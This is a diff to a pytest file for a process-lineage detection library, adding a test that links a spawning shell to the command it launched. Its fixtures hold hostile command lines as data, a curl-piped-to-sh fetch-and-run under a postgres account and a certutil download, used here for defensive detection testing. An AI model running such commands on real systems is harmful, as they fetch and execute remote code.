@@ -6,7 +6,7 @@ from typing import Any
 import polars as pl
 import pytest
 
-from longtail.detections.generalise import UNKNOWN, Deed, carried, clusters, deeds, with_children
+from longtail.detections.generalise import UNKNOWN, Deed, carried, clusters, deeds, with_kin
 from longtail.detections.legitimate import STARTS
 
 NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
@@ -60,8 +60,19 @@ def test_what_a_shell_carries_and_the_process_that_it_became() -> None:
              "image": S32 + "certutil.exe", "command_line": "CERTutil  -urlcache http://a/b c.exe",
              "parent_image": S32 + "cmd.exe", "parent_command_line": None, "runs": 1}  # fmt: skip
     elsewhere = {**child, "host": "other"}
-    found = with_children([shell], pl.DataFrame([child, elsewhere], schema=STARTS, orient="row"))
+    found = with_kin([shell], pl.DataFrame([child, elsewhere], schema=STARTS, orient="row"))
     assert sorted(each.name for each in found) == ["certutil.exe", "cmd.exe"]
+
+
+def test_the_shell_that_started_a_deed_is_one_too() -> None:
+    line = "sh -c curl -s http://198.51.100.7/a | sh"
+    below = deed("/usr/bin/curl", "curl -s http://198.51.100.7/a")
+    row = {"tenant": "t", "host": "h", "account": "a", "account_class": "postgres", "day": NOW.date(),
+           "image": below.image, "command_line": below.command_line, "parent_image": "/usr/bin/dash",
+           "parent_command_line": line, "runs": 1}  # fmt: skip
+    daemon = {**row, "parent_image": "/usr/lib/postgresql/15/bin/postgres", "parent_command_line": "postgres -D"}
+    found = with_kin([below], pl.DataFrame([row, daemon], schema=STARTS, orient="row"))
+    assert sorted(each.command_line for each in found) == [below.command_line, line]
 
 
 def test_one_technique_over_hosts_accounts_and_tenants_is_one_cluster() -> None:
